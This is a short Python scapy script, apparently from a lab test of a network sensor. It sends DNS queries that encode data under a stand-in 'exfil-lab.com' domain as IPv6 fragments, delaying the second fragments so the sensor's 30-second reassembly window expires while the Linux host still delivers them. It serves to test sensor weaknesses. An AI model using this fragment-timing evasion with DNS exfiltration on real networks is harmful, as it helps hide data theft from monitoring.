#!/usr/bin/python3
"""frag6_slow.py - three IPv6 queries in two fragments each whose second
fragment comes 40 s after the first (scapy; /usr/bin/python3 for scapy),
from record6.sh's client fd53:6::10 to its listener fd53:6::53 port 53
(FINDINGS.md R21-F4): Linux keeps an IPv6 queue 60 s (ip6frag_time) and
delivers them; the sensor kept one 30 s."""
import base64, hashlib, os, sys, time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from frag6_chain import udp, fr  # noqa: E402  (the same builders)
from scapy.all import send  # noqa: E402


def main():
    queries = []
    for i in range(3):
        data = hashlib.sha256(b"slow chunk %d" % i).digest()[:15]
        name = base64.b32encode(data).decode().lower() + ".f15.exfil-lab.com"
        queries.append(udp(name, 45000 + i, 0x6700 + i))
    for i, u in enumerate(queries):
        send(fr(0x8300 + i, 0, 17, u[:32], True))
        time.sleep(1)
    time.sleep(37)
    for i, u in enumerate(queries):
        send(fr(0x8300 + i, 32, 17, u[32:], False))
        time.sleep(1)


if __name__ == "__main__":
    main()
